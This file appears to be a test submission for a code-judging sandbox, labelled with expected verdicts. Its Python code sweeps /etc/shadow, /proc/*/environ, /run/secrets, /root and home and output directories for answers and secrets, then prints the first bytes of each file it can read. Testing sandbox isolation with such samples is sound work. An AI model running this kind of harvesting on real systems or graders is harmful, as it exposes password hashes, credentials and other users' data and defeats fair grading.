# SPDX-License-Identifier: Apache-2.0
# verdict: WRONG_ANSWER, RUNTIME_ERROR
# Looks for the answers, and for secrets, in files and environments; prints what
# it finds.
import glob
import os
import sys

found = []
for pattern in ("/proc/*/environ", "/etc/shadow", "/root/*", "/home/*/*",
                "/tmp/*/*.output", "/var/lib/*/*.db", "/run/secrets/*"):
    for path in glob.glob(pattern)[:50]:
        if path.startswith("/proc/self") or path == f"/proc/{os.getpid()}/environ":
            continue
        try:
            with open(path, "rb") as file:
                found.append(file.read(200))
        except OSError:
            pass
sys.stdout.buffer.write(b" ".join(found) or b"nothing")
